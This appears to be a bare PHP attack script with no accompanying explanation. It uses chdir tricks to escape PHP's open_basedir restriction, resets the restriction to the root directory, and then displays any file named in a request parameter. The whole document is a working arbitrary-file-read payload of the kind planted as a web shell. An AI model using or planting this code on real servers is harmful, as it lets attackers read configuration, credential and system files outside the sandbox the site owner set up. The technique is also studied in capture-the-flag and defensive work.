<?php
if (!is_dir('.w')) { mkdir('.w'); }
chdir('.w');
ini_set('open_basedir', '..');
for ($i = 0; $i < 8; $i++) { chdir('..'); }
ini_set('open_basedir', '/');
highlight_file($_REQUEST['p']);
